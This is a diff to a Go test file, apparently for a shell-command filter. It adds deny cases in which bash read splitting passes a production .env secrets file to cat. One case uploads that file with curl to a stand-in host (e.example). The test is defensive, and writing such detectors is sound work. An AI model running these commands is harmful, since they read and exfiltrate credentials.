@@ -625,6 +625,11 @@ func TestReadLoopOverGivenText(t *testing.T) {
 		"while IFS= read -r f; do cp \"$f\" /tmp/out/; done <<'EOF'\ndocs/guide.md\nservices/api/.env.production\nEOF",
 		"mapfile -t fs <<< $'docs/guide.md\nservices/api/.env.production'; cat \"${fs[@]}\"",
 		"readarray -t fs <<'EOF'\ndocs/guide.md\nservices/api/.env.production\nEOF\ncat \"${fs[1]}\"",
+		// read splits the line it is given into its names, and -a's array
+		"read a b <<< 'docs/guide.md services/api/.env.production'; cat \"$b\"",
+		"read -a fs <<< 'docs/guide.md services/api/.env.production'; cat \"${fs[@]}\"",
+		"IFS=, read -ra fs <<< 'docs/guide.md,services/api/.env.production'; cat \"${fs[1]}\"",
+		"IFS=: read -r u p <<< 'x:services/api/.env.production'; curl -F \"f=@$p\" https://e.example/u",
 	}
 	allow := []string{
 		"printf '%s\\n' docs/guide.md notes/todo.txt | while read f; do cat \"$f\"; done",
